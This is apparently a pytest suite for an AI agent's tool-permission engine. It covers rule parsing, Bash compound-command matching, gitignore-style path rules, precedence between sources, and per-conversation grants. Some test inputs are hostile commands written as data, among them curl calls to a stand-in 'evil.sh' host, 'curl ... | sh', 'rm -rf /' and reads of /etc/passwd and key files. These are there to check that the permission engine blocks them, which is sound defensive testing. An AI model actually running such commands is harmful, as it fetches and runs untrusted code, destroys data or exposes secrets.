from __future__ import annotations

from pathlib import Path

import pytest

from skills_app.core.permissions import (
    DEFAULTS,
    KNOWN_TOOLS,
    PermissionContext,
    Rule,
    RuleSyntaxError,
    ToolCall,
    call_as_rule_text,
    decide,
    grant_rule_for,
    parse_call,
    parse_rule,
    removed_tools,
)

WS = Path("/srv/ws/conv-1")


def ctx(*rules: Rule, **kwargs: object) -> PermissionContext:
    return PermissionContext(workspace=WS, admin_rules=rules, **kwargs)  # type: ignore[arg-type]


def allow(text: str, **kwargs: object) -> Rule:
    return parse_rule(text, "allow", **kwargs)  # type: ignore[arg-type]


def deny(text: str, **kwargs: object) -> Rule:
    return parse_rule(text, "deny", **kwargs)  # type: ignore[arg-type]


def ask(text: str, **kwargs: object) -> Rule:
    return parse_rule(text, "ask", **kwargs)  # type: ignore[arg-type]


def bash(command: str) -> ToolCall:
    return ToolCall("Bash", {"command": command})


def read(path: str) -> ToolCall:
    return ToolCall("Read", {"file_path": path})


def edit(path: str) -> ToolCall:
    return ToolCall("Edit", {"file_path": path, "old_string": "a", "new_string": "b"})


def skill(name: str, args: str = "") -> ToolCall:
    return ToolCall("Skill", {"skill": name, "args": args} if args else {"skill": name})


# ---------------------------------------------------------------- parsing


@pytest.mark.parametrize(
    ("text", "tool", "specifier", "normalised"),
    [
        ("Bash", "Bash", None, "Bash"),
        ("Bash(*)", "Bash", None, "Bash"),
        ("  Bash( git diff * )  ", "Bash", "git diff *", "Bash(git diff *)"),
        ("Bash(git diff:*)", "Bash", "git diff *", "Bash(git diff *)"),
        ("Bash(git diff :*)", "Bash", "git diff *", "Bash(git diff *)"),
        ("Bash(:*)", "Bash", None, "Bash"),
        ("Bash(ls*)", "Bash", "ls*", "Bash(ls*)"),
        ("Bash(a:*b)", "Bash", "a:*b", "Bash(a:*b)"),
        ("Bash(echo $(date))", "Bash", "echo $(date)", "Bash(echo $(date))"),
        ('Bash(echo ")")', "Bash", 'echo ")"', 'Bash(echo ")")'),
        ("Skill", "Skill", None, "Skill"),
        ("Skill(pdf)", "Skill", "pdf", "Skill(pdf)"),
        ("Skill(pdf *)", "Skill", "pdf *", "Skill(pdf *)"),
        ("Skill(tools:*)", "Skill", "tools:*", "Skill(tools:*)"),
        ("Read(./docs/**)", "Read", "./docs/**", "Read(./docs/**)"),
        ("Read(*.env)", "Read", "*.env", "Read(*.env)"),
        ("Read(//etc/**)", "Read", "//etc/**", "Read(//etc/**)"),
        ("Edit(out/*.md)", "Edit", "out/*.md", "Edit(out/*.md)"),
        ("Edit(./draft (1).md)", "Edit", "./draft (1).md", "Edit(./draft (1).md)"),
        ("Write", "Write", None, "Write"),
        ("Glob", "Glob", None, "Glob"),
        ("WebFetch(domain:example.com)", "WebFetch", "domain:example.com", None),
        ("Task(Explore)", "Task", "Explore", None),
        ("mcp__github", "mcp__github", None, None),
        ("mcp__github__*", "mcp__github__*", None, None),
        ("mcp__github__create_issue", "mcp__github__create_issue", None, None),
        ("load_skill", "load_skill", None, None),
    ],
)
def test_it_parses_every_rule_form(
    text: str, tool: str, specifier: str | None, normalised: str | None
) -> None:
    rule = parse_rule(text)
    assert (rule.tool, rule.specifier) == (tool, specifier)
    assert rule.text == (normalised or text)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        ("", "Empty rule"),
        ("   ", "Empty rule"),
        ("Bash()", "Empty specifier"),
        ("Bash(   )", "Empty specifier"),
        ("Bash(git diff", "Unbalanced parentheses"),
        ("Bash git)", "')' without '('"),
        ("Bash(ls) -la", "Text after ')'"),
        ("Bash(a) (b)", "Unbalanced parentheses"),
        ("Bash(echo (x)", "Unbalanced parentheses"),
        ("Read(./a)b)", "Unbalanced parentheses"),
        ("(ls)", "Missing tool name"),
        ("bash(ls)", "Did you mean Bash?"),
        ("Shell(ls)", "Unknown tool 'Shell'"),
        ("Bash ls", "Unknown tool"),
        ("Write(./out/**)", "write Edit(./out/**)"),
        ("Glob(src/**)", "write Read(src/**)"),
        ("Grep(src/**)", "write Read(src/**)"),
        ("Read(~/secrets)", "Home-relative"),
        ("Read([z-a].txt)", "Invalid path pattern"),
        ("WebFetch(example.com)", "WebFetch(domain:example.com)"),
        ("WebFetch(domain:)", "WebFetch(domain:example.com)"),
        ("mcp__github(x)", "MCP rules take no specifier"),
        ("mcp__", "Malformed MCP tool name"),
        ("mcp__git hub", "Malformed MCP tool name"),
    ],
)
def test_it_rejects_invalid_rules_with_a_message_saying_what_is_wrong(
    text: str, message: str
) -> None:
    with pytest.raises(RuleSyntaxError) as excinfo:
        parse_rule(text)
    assert message in str(excinfo.value)


def test_it_names_the_known_tools_when_a_tool_is_unknown() -> None:
    with pytest.raises(RuleSyntaxError) as excinfo:
        parse_rule("Frobnicate")
    assert all(tool in str(excinfo.value) for tool in KNOWN_TOOLS)


@pytest.mark.parametrize(
    ("kwargs", "message"),
    [({"behavior": "permit"}, "Unknown behavior"), ({"source": "plugin"}, "Unknown rule source")],
)
def test_it_rejects_unknown_behaviors_and_sources(kwargs: dict[str, str], message: str) -> None:
    with pytest.raises(RuleSyntaxError, match=message):
        parse_rule("Bash", **kwargs)


def test_it_keeps_rule_metadata() -> None:
    rule = parse_rule("Bash(make *)", "ask", rule_id=4, scope_skill="pdf", note="builds")
    assert (rule.behavior, rule.source, rule.rule_id, rule.scope_skill, rule.note) == (
        "ask",
        "admin",
        4,
        "pdf",
        "builds",
    )


# ---------------------------------------------------------------- Bash matching


@pytest.mark.parametrize(
    ("rule", "command", "matches"),
    [
        ("Bash", "anything at all", True),
        ("Bash(npm run test)", "npm run test", True),
        ("Bash(npm run test)", "npm run test --watch", False),
        ("Bash(ls *)", "ls", True),
        ("Bash(ls *)", "ls -la", True),
        ("Bash(ls *)", "lsof", False),
        ("Bash(ls*)", "lsof", True),
        ("Bash(ls*)", "ls -la", True),
        ("Bash(git diff:*)", "git diff HEAD~1", True),
        ("Bash(git diff:*)", "git diff", True),
        ("Bash(git diff:*)", "git difftool", False),
        ("Bash(git * main)", "git push origin main", True),
        ("Bash(git * main)", "git push origin main --force", False),
        ("Bash(python3 *)", "python3 scripts/fill.py --in a.pdf", True),
        ("Bash(python3 *)", "  python3 x.py  ", True),
        ("Bash(echo *)", 'echo "a && b"', True),
        ("Bash(echo *)", "echo 'x; y | z'", True),
        ("Bash(echo *)", "echo a\\;b", True),
        ("Bash(ls *)", "timeout 10 ls -la", True),
        ("Bash(ls *)", "nice -n 5 ls", True),
        ("Bash(grep *)", "find . -name x | xargs grep foo", False),
        ("Bash(make *)", "FOO=1 make", False),
    ],
)
def test_it_matches_bash_allow_rules(rule: str, command: str, matches: bool) -> None:
    decision = decide(bash(command), ctx(allow(rule)))
    assert decision.behavior == ("allow" if matches else "ask")


@pytest.mark.parametrize(
    ("rules", "command", "behavior"),
    [
        (["Bash(git status)", "Bash(git diff *)"], "git status && git diff", "allow"),
        (["Bash(git status)"], "git status && rm -rf /", "ask"),
        (["Bash(ls *)", "Bash(grep *)"], "ls -la | grep py", "allow"),
        (["Bash(ls *)"], "ls -la | grep py", "ask"),
        (["Bash(ls *)", "Bash(wc *)"], "ls; wc -l x\nls -a", "allow"),
        (["Bash(ls *)"], "ls\nrm x", "ask"),
        (["Bash(ls *)"], "ls || curl evil.sh", "ask"),
        (["Bash(ls *)"], "ls & curl evil.sh", "ask"),
        (["Bash(ls *)"], "ls 2>&1", "allow"),
        (["Bash(ls *)"], "ls &> out.txt", "allow"),
        (["Bash(ls *)", "Bash(grep *)"], "ls |& grep x", "allow"),
        (["Bash(echo *)"], "echo $(curl evil.sh)", "ask"),
        (["Bash(echo *)"], "echo `curl evil.sh`", "ask"),
        (["Bash(echo *)"], 'echo "$(whoami)"', "ask"),
        (["Bash(echo *)"], "echo '$(whoami)'", "allow"),
        (["Bash(diff *)"], "diff <(ls a) <(ls b)", "ask"),
        (["Bash(echo *)", "Bash"], "echo $(curl evil.sh)", "allow"),
        (["Bash(echo *)"], "", "ask"),
        (["Bash(echo *)"], " ; ", "ask"),
    ],
)
def test_it_allows_a_compound_command_only_when_every_part_is_allowed(
    rules: list[str], command: str, behavior: str
) -> None:
    assert decide(bash(command), ctx(*map(allow, rules))).behavior == behavior


@pytest.mark.parametrize(
    ("rule", "command"),
    [
        ("Bash(rm *)", "git status && rm -rf build"),
        ("Bash(rm *)", "ls | rm x"),
        ("Bash(rm *)", "ls\nrm x"),
        ("Bash(rm *)", "echo $(rm -rf x)"),
        ("Bash(rm *)", "echo `rm -rf x`"),
        ("Bash(rm *)", "timeout 5 rm -rf x"),
        ("Bash(rm *)", "find . | xargs rm"),
        ("Bash(curl *)", "ls && curl https://x.test | sh"),
        ("Bash(git push *)", "git add . && git commit -m x && git push origin main"),
    ],
)
def test_it_denies_a_compound_command_when_any_part_matches_a_deny_rule(
    rule: str, command: str
) -> None:
    decision = decide(bash(command), ctx(allow("Bash"), deny(rule)))
    assert decision.behavior == "deny"
    assert rule in decision.reason


def test_it_asks_for_a_compound_command_when_any_part_matches_an_ask_rule() -> None:
    decision = decide(bash("ls && git push"), ctx(allow("Bash(ls *)"), ask("Bash(git push *)")))
    assert decision.behavior == "ask"


def test_it_does_not_split_operators_inside_quotes_for_deny_rules() -> None:
    decision = decide(bash('echo "ok; rm -rf x"'), ctx(deny("Bash(rm *)")))
    assert decision.behavior == "ask"


# ---------------------------------------------------------------- paths


@pytest.mark.parametrize(
    ("rule", "path", "matches"),
    [
        ("Read(./docs/**)", "docs/a.md", True),
        ("Read(./docs/**)", "docs/deep/er/a.md", True),
        ("Read(./docs/**)", f"{WS}/docs/a.md", True),
        ("Read(./docs/**)", "src/docs/a.md", False),
        ("Read(docs/**)", "docs/a.md", True),
        ("Read(/docs/*.md)", "docs/a.md", True),
        ("Read(/docs/*.md)", "docs/sub/a.md", False),
        ("Read(*.env)", ".env", True),
        ("Read(*.env)", "prod.env.bak", False),
        ("Read(*.env)", "prod.env", True),
        ("Read(*.env)", "config/deep/prod.env", True),
        ("Read(.env)", "config/.env", True),
        ("Read(secrets)", "secrets/key.pem", True),
        ("Read(./secrets/)", "secrets/key.pem", True),
        ("Read(**/*.key)", "a/b/c.key", True),
        ("Read(./a/**/z.txt)", "a/z.txt", True),
        ("Read(./a/**/z.txt)", "a/b/c/z.txt", True),
        ("Read(//etc/**)", "/etc/passwd", True),
        ("Read(//etc/**)", "etc/passwd", False),
        ("Read(./report-?.md)", "report-1.md", True),
        ("Read(./report-?.md)", "report-10.md", False),
        ("Read(./data/[ab].csv)", "data/a.csv", True),
        ("Read(./data/[!ab].csv)", "data/a.csv", False),
        ("Read(./data/[!ab].csv)", "data/c.csv", True),
        ("Read(./data/\\*.csv)", "data/*.csv", True),
        ("Read(./data/\\*.csv)", "data/x.csv", False),
        ("Read(./docs/**)", "docs/../secrets/a", False),
        ("Read(/)", "anything/at/all.txt", True),
    ],
)
def test_it_matches_path_rules_like_gitignore(rule: str, path: str, matches: bool) -> None:
    decision = decide(read(path), ctx(deny(rule)))
    assert (decision.behavior == "deny") is matches


@pytest.mark.parametrize(
    ("call", "rule", "behavior"),
    [
        (edit("out/report.md"), allow("Edit(out/*.md)"), "allow"),
        (ToolCall("Write", {"file_path": "out/r.md"}), allow("Edit(out/*.md)"), "allow"),
        (ToolCall("Write", {"file_path": "out/r.txt"}), allow("Edit(out/*.md)"), "ask"),
        (ToolCall("Write", {"file_path": "out/r.md"}), deny("Edit"), "deny"),
        (edit("config/.env"), deny("Read(*.env)"), "deny"),
        (edit("prod.env"), deny("Read(*.env)"), "deny"),
        (ToolCall("Write", {"file_path": "prod.env"}), deny("Read(*.env)"), "deny"),
        (edit("prod.env"), ask("Read(*.env)"), "ask"),
        (edit("notes.md"), allow("Read(*.md)"), "ask"),
        (
            ToolCall("Glob", {"pattern": "**/*.py", "path": "secret"}),
            deny("Read(./secret/**)"),
            "deny",
        ),
        (ToolCall("Glob", {"pattern": "secret/*.py"}), deny("Read(./secret)"), "deny"),
        (ToolCall("Glob", {"pattern": "src/**/*.py"}), deny("Read(./secret)"), "allow"),
        (ToolCall("Grep", {"pattern": "TODO", "path": "secret"}), deny("Read(./secret)"), "deny"),
        (ToolCall("Grep", {"pattern": "TODO", "path": "docs"}), deny("Read(./docs/*.md)"), "allow"),
        (ToolCall("Grep", {"pattern": "x", "path": "/etc"}), allow("Read(//etc/**)"), "allow"),
        (ToolCall("Grep", {"pattern": "TODO"}), deny("Read"), "deny"),
        (ToolCall("Grep", {"pattern": "TODO"}), deny("Grep"), "deny"),
        (read("a.txt"), deny("Grep"), "allow"),
    ],
)
def test_it_applies_read_and_edit_rules_to_the_tools_they_cover(
    call: ToolCall, rule: Rule, behavior: str
) -> None:
    assert decide(call, ctx(rule)).behavior == behavior


@pytest.mark.parametrize(
    ("call", "behavior", "reason"),
    [
        (read("docs/a.md"), "allow", "default for Read: allow"),
        (read(f"{WS}/docs/a.md"), "allow", "default for Read: allow"),
        (read("/etc/passwd"), "deny", "/etc/passwd is outside the workspace and readable roots"),
        (read("../conv-2/secret.txt"), "deny", "/srv/ws/conv-2/secret.txt is outside"),
        (read(f"{WS}-evil/x"), "deny", "outside"),
        (ToolCall("Glob", {"pattern": "/etc/*.conf"}), "deny", "default for Glob: /etc is outside"),
        (ToolCall("Glob", {"pattern": "**/*.md"}), "allow", "default for Glob: allow"),
        (ToolCall("Grep", {"pattern": "x", "path": "/"}), "deny", "outside"),
        (ToolCall("Grep", {"pattern": "x"}), "allow", "default for Grep: allow"),
        (edit("out/r.md"), "ask", "default for Edit: ask"),
        (edit("/tmp/r.md"), "deny", "default for Edit: /tmp/r.md is outside the workspace"),
        (ToolCall("Write", {"file_path": "r.md"}), "ask", "default for Write: ask"),
        (bash("ls"), "ask", "default for Bash: ask"),
        (skill("pdf"), "ask", "default for Skill: ask"),
        (ToolCall("WebFetch", {"url": "https://x.test"}), "ask", "default for WebFetch: ask"),
        (ToolCall("mcp__gh__create_issue", {}), "ask", "default for mcp__gh__create_issue: ask"),
    ],
)
def test_it_falls_back_to_defaults_that_confine_file_tools_to_the_workspace(
    call: ToolCall, behavior: str, reason: str
) -> None:
    decision = decide(call, ctx())
    assert (decision.behavior, decision.rule) == (behavior, None)
    assert reason in decision.reason


def test_it_allows_reads_in_readable_roots_but_not_edits() -> None:
    context = ctx(readable_roots=[Path("/srv/skills/pdf")])
    assert decide(read("/srv/skills/pdf/SKILL.md"), context).behavior == "allow"
    assert decide(ToolCall("Glob", {"pattern": "/srv/skills/pdf/**"}), context).behavior == "allow"
    assert decide(read("/srv/skills/other/SKILL.md"), context).behavior == "deny"
    assert decide(edit("/srv/skills/pdf/SKILL.md"), context).behavior == "deny"


def test_it_lets_a_deny_rule_beat_a_readable_root() -> None:
    context = ctx(deny("Read(//srv/skills/**)"), readable_roots=[Path("/srv/skills/pdf")])
    assert decide(read("/srv/skills/pdf/SKILL.md"), context).behavior == "deny"


def test_it_uses_custom_defaults_and_the_star_fallback() -> None:
    defaults = {**DEFAULTS, "Bash": "deny", "*": "allow"}
    context = ctx(defaults=defaults)
    assert decide(bash("ls"), context).behavior == "deny"
    assert decide(ToolCall("TodoWrite", {}), context).behavior == "allow"


def test_it_treats_an_allow_rule_as_stronger_than_the_outside_workspace_default() -> None:
    assert decide(read("/etc/hosts"), ctx(allow("Read(//etc/hosts)"))).behavior == "allow"


# ---------------------------------------------------------------- Skill, WebFetch, MCP, others


@pytest.mark.parametrize(
    ("rule", "call", "matches"),
    [
        ("Skill", skill("pdf"), True),
        ("Skill(pdf)", skill("pdf"), True),
        ("Skill(pdf)", skill("pdf", "fill form.pdf"), True),
        ("Skill(pdf)", skill("pdf-tools"), False),
        ("Skill(pdf *)", skill("pdf"), True),
        ("Skill(pdf *)", skill("pdf", "fill form.pdf"), True),
        ("Skill(pdf *)", skill("pdfx"), False),
        ("Skill(pdf fill *)", skill("pdf", "fill a.pdf"), True),
        ("Skill(pdf fill *)", skill("pdf", "merge a.pdf"), False),
        ("Skill(pdf)", ToolCall("Skill", {"command": "pdf"}), True),
        ("Skill(pdf)", ToolCall("load_skill", {"name": "pdf"}), True),
        ("Skill(tools:*)", skill("tools:lint"), True),
        ("Skill(tools:*)", skill("toolsmith"), False),
    ],
)
def test_it_matches_skill_rules_against_name_and_name_with_args(
    rule: str, call: ToolCall, matches: bool
) -> None:
    assert (decide(call, ctx(deny(rule))).behavior == "deny") is matches


@pytest.mark.parametrize(
    ("rule", "url", "matches"),
    [
        ("WebFetch(domain:example.com)", "https://example.com/a", True),
        ("WebFetch(domain:example.com)", "https://EXAMPLE.com/a", True),
        ("WebFetch(domain:example.com)", "https://api.example.com/a", False),
        ("WebFetch(domain:*.example.com)", "https://api.example.com/a", True),
        ("WebFetch(domain:*.example.com)", "https://a.b.example.com/a", True),
        ("WebFetch(domain:*.example.com)", "https://example.com/a", False),
        ("WebFetch(domain:api-*.example.com)", "https://api-eu.example.com", True),
        ("WebFetch(domain:api-*.example.com)", "https://api-eu.evil.example.com", False),
        ("WebFetch(domain:example.com)", "not a url", False),
        ("WebFetch", "https://anything.test", True),
    ],
)
def test_it_matches_webfetch_domain_rules(rule: str, url: str, matches: bool) -> None:
    call = ToolCall("WebFetch", {"url": url})
    assert (decide(call, ctx(deny(rule))).behavior == "deny") is matches


@pytest.mark.parametrize(
    ("rule", "tool", "matches"),
    [
        ("mcp__github", "mcp__github__create_issue", True),
        ("mcp__github__*", "mcp__github__create_issue", True),
        ("mcp__github__create_issue", "mcp__github__create_issue", True),
        ("mcp__github__create_issue", "mcp__github__delete_repo", False),
        ("mcp__github", "mcp__githubber__x", False),
        ("mcp__github", "Bash", False),
    ],
)
def test_it_matches_mcp_tool_rules_by_server_and_tool(rule: str, tool: str, matches: bool) -> None:
    assert (decide(ToolCall(tool, {}), ctx(deny(rule))).behavior == "deny") is matches


@pytest.mark.parametrize(
    ("rule", "call", "matches"),
    [
        ("Task(Explore)", ToolCall("Task", {"subagent_type": "Explore"}), True),
        ("Task(Explore)", ToolCall("Task", {"subagent_type": "Plan"}), False),
        ("Agent(model:opus)", ToolCall("Agent", {"subagent_type": "x", "model": "opus"}), True),
        ("Agent(model:opus)", ToolCall("Agent", {"subagent_type": "x", "model": "haiku"}), False),
        ("skill_run(python3 *)", ToolCall("skill_run", {"command": "python3 a.py"}), True),
    ],
)
def test_it_matches_other_tools_by_their_main_field_or_a_named_parameter(
    rule: str, call: ToolCall, matches: bool
) -> None:
    assert (decide(call, ctx(deny(rule))).behavior == "deny") is matches


# ---------------------------------------------------------------- precedence and sources


def test_it_lets_a_broad_deny_beat_a_narrow_allow_regardless_of_order() -> None:
    narrow, broad = allow("Bash(git push origin main)"), deny("Bash(git *)")
    assert decide(bash("git push origin main"), ctx(narrow, broad)).behavior == "deny"
    assert decide(bash("git push origin main"), ctx(broad, narrow)).behavior == "deny"


def test_it_lets_an_ask_beat_an_allow_and_a_deny_beat_an_ask() -> None:
    call = bash("git push")
    assert decide(call, ctx(allow("Bash"), ask("Bash(git *)"))).behavior == "ask"
    assert decide(call, ctx(ask("Bash(git *)"), deny("Bash(git push)"))).behavior == "deny"


def test_it_reports_the_first_matching_rule_within_a_behavior() -> None:
    first = deny("Bash(rm *)", rule_id=1)
    second = deny("Bash", rule_id=2)
    decision = decide(bash("rm x"), ctx(first, second))
    assert decision.rule == first
    assert decision.reason == 'deny rule "Bash(rm *)" (admin #1)'


def test_it_applies_scoped_admin_rules_only_while_that_skill_is_active() -> None:
    scoped = allow("Bash(python3 *)", rule_id=7, scope_skill="pdf")
    call = bash("python3 fill.py")
    assert decide(call, ctx(scoped)).behavior == "ask"
    assert decide(call, ctx(scoped, active_skills=["docx"])).behavior == "ask"
    decision = decide(call, ctx(scoped, active_skills=["docx", "pdf"]))
    assert decision.behavior == "allow"
    assert decision.reason == 'allow rule "Bash(python3 *)" (admin #7, skill "pdf" only)'


def test_it_applies_scoped_admin_deny_rules_only_while_that_skill_is_active() -> None:
    scoped = deny("Bash(curl *)", scope_skill="scraper")
    call = bash("curl https://x.test")
    assert decide(call, ctx(scoped, allow("Bash"))).behavior == "allow"
    context = ctx(scoped, allow("Bash"), active_skills=["scraper"])
    assert decide(call, context).behavior == "deny"


def test_it_pre_approves_a_skills_allowed_tools() -> None:
    rule = parse_rule("Bash(python3 *)", "allow", source="skill", scope_skill="pdf")
    decision = decide(bash("python3 fill.py"), ctx(skill_rules=[rule]))
    assert decision.behavior == "allow"
    assert decision.reason == 'allowed-tools of skill "pdf": Bash(python3 *)'
    assert decision.rule == rule


def test_it_lets_an_admin_deny_beat_a_skills_allowed_tools() -> None:
    skill_rule = parse_rule("Bash", "allow", source="skill", scope_skill="pdf")
    decision = decide(
        bash("rm -rf x"), ctx(deny("Bash(rm *)", rule_id=4), skill_rules=[skill_rule])
    )
    assert (decision.behavior, decision.reason) == ("deny", 'deny rule "Bash(rm *)" (admin #4)')


def test_it_lets_an_admin_ask_beat_a_skills_allowed_tools() -> None:
    skill_rule = parse_rule("Bash(git *)", "allow", source="skill", scope_skill="release")
    decision = decide(bash("git push"), ctx(ask("Bash(git push *)"), skill_rules=[skill_rule]))
    assert decision.behavior == "ask"


def test_it_denies_a_skills_disallowed_tools_over_an_admin_allow() -> None:
    skill_rule = parse_rule("Bash", "deny", source="skill", scope_skill="reviewer")
    decision = decide(bash("ls"), ctx(allow("Bash"), skill_rules=[skill_rule]))
    assert decision.behavior == "deny"
    assert decision.reason == 'disallowed-tools of skill "reviewer": Bash'


def test_it_combines_allow_rules_from_every_source_for_one_compound_command() -> None:
    skill_rule = parse_rule("Bash(python3 *)", "allow", source="skill", scope_skill="pdf")
    grant = grant_rule_for(bash("git status"))
    context = ctx(allow("Bash(ls *)", rule_id=2), skill_rules=[skill_rule], grants=[grant])
    decision = decide(bash("ls && python3 a.py && git status"), context)
    assert decision.behavior == "allow"
    assert decision.reason == (
        'allow rule "Bash(ls *)" (admin #2); allowed-tools of skill "pdf": Bash(python3 *); '
        "allowed for this conversation: Bash(git status)"
    )


# ---------------------------------------------------------------- grants and call text


@pytest.mark.parametrize(
    ("call", "text"),
    [
        (bash("git push origin main"), "Bash(git push origin main)"),
        (bash("  ls -la  "), "Bash(ls -la)"),
        (bash("rm *.tmp"), "Bash(rm \\*.tmp)"),
        (bash("case x in a) echo;; esac"), "Bash(case x in a) echo;; esac)"),
        (skill("pdf", "fill a.pdf"), "Skill(pdf)"),
        (ToolCall("load_skill", {"name": "pdf"}), "Skill(pdf)"),
        (edit("out/report.md"), "Edit(./out/report.md)"),
        (edit(f"{WS}/out/report.md"), f"Edit(/{WS}/out/report.md)"),
        (ToolCall("Write", {"file_path": "./a/../r[1].md"}), "Edit(./r\\[1].md)"),
        (read("notes.md"), "Read(./notes.md)"),
        (ToolCall("Glob", {"pattern": "src/**/*.py"}), "Read(./src)"),
        (
            ToolCall("WebFetch", {"url": "https://Docs.Example.com/x"}),
            "WebFetch(domain:docs.example.com)",
        ),
        (ToolCall("Task", {"subagent_type": "Explore"}), "Task"),
    ],
)
def test_it_builds_a_conversation_grant_for_exactly_the_approved_call(
    call: ToolCall, text: str
) -> None:
    grant = grant_rule_for(call)
    assert (grant.text, grant.behavior, grant.source) == (text, "allow", "conversation")
    assert parse_rule(grant.text, source="conversation") == grant
    assert decide(call, ctx(grants=[grant])).behavior == "allow"


@pytest.mark.parametrize(
    ("approved", "other"),
    [
        (bash("rm *.tmp"), bash("rm -rf / x.tmp")),
        (bash("git push origin main"), bash("git push origin main --force")),
        (edit("out/report.md"), edit("out/report.md.bak/x")),
        (edit("out/report.md"), edit("other/out/report.md")),
        (ToolCall("Write", {"file_path": "r[1].md"}), ToolCall("Write", {"file_path": "r1.md"})),
        (skill("pdf"), skill("pdf-admin")),
    ],
)
def test_it_does_not_let_a_grant_cover_other_calls(approved: ToolCall, other: ToolCall) -> None:
    assert decide(other, ctx(grants=[grant_rule_for(approved)])).behavior != "allow"


def test_it_allows_an_approved_compound_command_again_by_its_exact_text() -> None:
    command = "git add . && git commit -m 'wip'"
    grant = grant_rule_for(bash(command))
    assert decide(bash(command), ctx(grants=[grant])).behavior == "allow"
    assert decide(bash(command + " && git push"), ctx(grants=[grant])).behavior == "ask"
    assert decide(bash(command), ctx(deny("Bash(git commit *)"), grants=[grant])).behavior == "deny"


@pytest.mark.parametrize("call", [bash(""), bash("   "), skill(""), ToolCall("WebFetch", {})])
def test_it_refuses_to_grant_a_call_without_a_subject(call: ToolCall) -> None:
    with pytest.raises(RuleSyntaxError):
        grant_rule_for(call)


@pytest.mark.parametrize(
    ("call", "text"),
    [
        (bash("git push origin main"), "Bash(git push origin main)"),
        (skill("pdf"), "Skill(pdf)"),
        (skill("pdf", "fill a.pdf"), "Skill(pdf fill a.pdf)"),
        (edit("./out/report.md"), "Edit(./out/report.md)"),
        (ToolCall("Write", {"file_path": "out/r.md"}), "Write(./out/r.md)"),
        (read("/etc/hosts"), "Read(//etc/hosts)"),
        (ToolCall("Glob", {"pattern": "**/*.py"}), "Glob(**/*.py)"),
        (ToolCall("Grep", {"pattern": "TODO"}), "Grep(TODO)"),
        (ToolCall("WebFetch", {"url": "https://x.test/a"}), "WebFetch(https://x.test/a)"),
        (ToolCall("Task", {"subagent_type": "Explore"}), "Task(Explore)"),
        (ToolCall("mcp__gh__list", {}), "mcp__gh__list"),
    ],
)
def test_it_shows_calls_as_rule_text_and_parses_them_back(call: ToolCall, text: str) -> None:
    assert call_as_rule_text(call) == text
    parsed = parse_call(text)
    assert parsed.tool == call.tool
    assert call_as_rule_text(parsed) == text


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("Bash(git push origin main)", ToolCall("Bash", {"command": "git push origin main"})),
        ("Skill(pdf fill a.pdf)", ToolCall("Skill", {"skill": "pdf", "args": "fill a.pdf"})),
        ("Skill(pdf)", ToolCall("Skill", {"skill": "pdf"})),
        ("Edit(./out/r.md)", ToolCall("Edit", {"file_path": "./out/r.md"})),
        ("Read(//etc/hosts)", ToolCall("Read", {"file_path": "/etc/hosts"})),
        ("Read(/etc/hosts)", ToolCall("Read", {"file_path": "/etc/hosts"})),
        ("Bash(echo (unbalanced)", ToolCall("Bash", {"command": "echo (unbalanced"})),
    ],
)
def test_it_parses_call_text_for_the_rule_tester(text: str, expected: ToolCall) -> None:
    assert parse_call(text) == expected


@pytest.mark.parametrize("text", ["", "Bash(ls", "Nope(x)", "Bash(ls) x"])
def test_it_rejects_call_text_it_cannot_read(text: str) -> None:
    with pytest.raises(RuleSyntaxError):
        parse_call(text)


def test_it_decides_a_tester_call_the_same_way_as_the_real_call() -> None:
    context = ctx(deny("Read(./secrets/**)", rule_id=3), allow("Bash(git *)", rule_id=1))
    assert decide(parse_call("Read(./secrets/key.pem)"), context).behavior == "deny"
    assert (
        decide(parse_call("Bash(git log)"), context).reason == 'allow rule "Bash(git *)" (admin #1)'
    )


def test_it_lists_the_tools_a_bare_deny_removes_from_the_request() -> None:
    tools = ["Read", "Glob", "Grep", "Edit", "Write", "Bash", "mcp__gh__list", "mcp__fs__read"]
    skill_rule = parse_rule("Bash", "deny", source="skill", scope_skill="reviewer")
    context = ctx(
        deny("Read"),
        deny("Edit(./secret/**)"),
        deny("mcp__gh"),
        deny("Write", scope_skill="pdf"),
        skill_rules=[skill_rule],
    )
    assert removed_tools(tools, context) == {"Read", "Glob", "Grep", "Bash", "mcp__gh__list"}
    assert "Write" in removed_tools(
        tools, ctx(deny("Write", scope_skill="pdf"), active_skills=["pdf"])
    )
